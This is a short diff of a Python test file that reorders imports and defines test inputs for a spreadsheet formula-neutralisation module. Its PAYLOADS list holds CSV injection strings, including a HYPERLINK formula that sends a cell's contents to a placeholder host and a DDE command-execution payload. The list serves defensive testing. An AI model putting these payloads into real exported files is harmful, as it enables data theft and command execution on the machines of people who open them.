@@ -21,14 +21,13 @@ import pytest
 import yaml
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/: shared helpers
-from test_furag import NATIONAL_2021, furag_workbook  # noqa: E402
-
-from evaluation.report import tables
-from evaluation.importers import panel_config
 from evaluation.demo.files import to_csv_text
+from evaluation.importers import panel_config
 from evaluation.importers.furag import import_furag
 from evaluation.importers.registry import write_template
+from evaluation.report import tables
 from evaluation.safe import FORMULA_STARTS, neutralise_cell, neutralise_formulas
+from test_furag import NATIONAL_2021, furag_workbook  # noqa: E402
 
 PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
             "\r=1+1", "=cmd|' /C calc'!A0"]
